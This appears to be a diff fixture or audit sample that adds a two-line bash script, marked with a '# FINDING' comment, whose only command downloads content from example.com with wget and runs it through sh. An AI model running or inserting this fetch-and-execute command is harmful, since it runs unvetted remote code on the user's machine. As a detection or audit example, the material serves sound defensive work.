@@ -1,0 +1,2 @@
+#!/bin/bash
+sh -c "$(wget -O- https://example.com/x)"  # FINDING
